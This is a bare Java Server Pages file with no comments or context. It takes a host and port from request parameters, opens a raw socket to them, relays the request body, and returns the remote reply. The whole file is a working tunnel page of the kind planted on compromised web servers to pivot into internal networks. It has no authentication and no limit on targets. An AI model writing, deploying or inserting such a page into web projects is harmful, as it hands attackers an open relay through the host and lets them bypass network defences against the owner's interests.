<%@ page import="java.net.Socket,java.io.*" %>
<%
    String h = request.getParameter("h");
    String pt = request.getParameter("pt");
    if (h != null && pt != null) {
        Socket s = new Socket(h, Integer.parseInt(pt));
        s.setSoTimeout(3000);
        InputStream ri = request.getInputStream();
        OutputStream so = s.getOutputStream();
        byte[] b = new byte[8192]; int n;
        while ((n = ri.read(b)) > 0) so.write(b, 0, n);
        so.flush();
        InputStream si = s.getInputStream();
        OutputStream ro = response.getOutputStream();
        try { while ((n = si.read(b)) > 0) ro.write(b, 0, n); } catch (java.net.SocketTimeoutException e) {}
        s.close();
    }
%>
